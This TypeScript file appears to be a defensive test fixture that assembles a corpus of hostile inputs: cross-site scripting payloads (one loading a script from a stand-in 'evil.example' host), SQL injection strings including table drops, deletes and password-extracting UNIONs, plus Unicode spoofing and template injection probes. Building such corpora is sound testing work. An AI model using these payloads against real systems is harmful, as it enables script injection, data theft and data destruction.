// Hostile inputs kept in the repository: cross-site scripting in many forms,
// SQL metacharacters, Unicode trickery, template injection, very long strings
// and control characters. Each base payload also appears wrapped in the
// ways attackers vary them, so the corpus is several hundred inputs long.
const xss = [
  '<script>alert(1)</script>',
  '"><script>alert(document.domain)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<style>@import "javascript:alert(1)";</style>',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '"onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '<div style="background:url(javascript:alert(1))">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= 7*7 %>',
  '{{7*7}}',
  '<!--<script>alert(1)//-->',
  '<script src=//evil.example/x.js></script>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
]
const sql = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE offer; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  "' UNION SELECT password FROM account --",
  "admin'--",
  '%',
  '_',
  '\\',
  "\\'; --",
  '\'); DELETE FROM "user"; --',
  'NULL',
  '0x00',
  "' AND extractvalue(1,concat(0x7e,version())) --",
]
const unicode = [
  '\u202Eevil\u202C.pdf',
  'zero\u200Bwidth\u200Djoiner\uFEFF',
  'аdmin (Cyrillic a)',
  'ＡＬＳ fullwidth',
  '𝓢𝓽𝓮𝓶 𝓬𝓮𝓵𝓵',
  'e\u0301\u0301\u0301\u0301 combining',
  'مرحبا بالعالم',
  'שלום עולם',
  '😀🧬🩺👨‍👩‍👧',
  '\uD83D',
  'Z̷̛̛̺̝ͧa̵͓͉̍l̷̰̈́g̶̨̛o̵',
  '\u0000null\u0000byte',
  'line\nbreak\r\nreturn',
  '\ttab\tseparated',
  '\u007f\u0080\u009f control',
]
const long = ['x'.repeat(10_000), 'ا'.repeat(5_000), '😀'.repeat(2_500), 'a b '.repeat(3_000)]

const variants: ((s: string) => string)[] = [
  (s) => s,
  (s) => `Karim ${s}`,
  (s) => `${s} (Bengaluru)`,
  (s) => s.toUpperCase(),
  (s) => `"${s}"`,
  (s) => `\u202E${s}`,
]

export const attackCorpus: string[] = [
  ...new Set([...xss, ...sql, ...unicode].flatMap((s) => variants.map((v) => v(s))).concat(long)),
]

/** Inputs whose execution would show up as a dialog or a CSP violation. */
export const scriptingPayloads = attackCorpus.filter((s) => /alert|<script|javascript:/i.test(s))
